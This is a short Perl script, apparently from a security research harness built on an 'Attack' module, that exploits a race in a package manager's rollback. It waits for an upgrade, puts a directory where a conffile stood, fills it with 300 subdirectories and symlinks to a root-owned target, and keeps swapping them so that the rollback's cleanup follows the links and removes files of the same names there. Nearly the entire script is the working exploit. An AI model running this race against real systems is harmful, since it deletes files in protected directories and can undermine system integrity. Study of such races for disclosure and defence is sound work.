# Puts a directory in the place of a conffile, which a rollback moves aside and removes. Exchanges the directories in it with links to a directory
# of root, in which files have the same names.
use strict;
use warnings;
use Attack;

my ($conffile, $target, @names) = @ARGV;
ready();
wait_for { upgraded() };
unlink $conffile;
directory($conffile);
# It is the same directory wherever it is moved.
chdir $conffile or die "$conffile: $!\n";
for my $number (1 .. 300) {
    mkdir "new-$number" or die "mkdir: $!\n";
    write_file("new-$number/$_", '') for @names;
    symlink $target, "link-$number" or die "symlink: $!\n";
}
tried();
until (over()) {
    exchange("new-$_", "link-$_") for 1 .. 300;
}
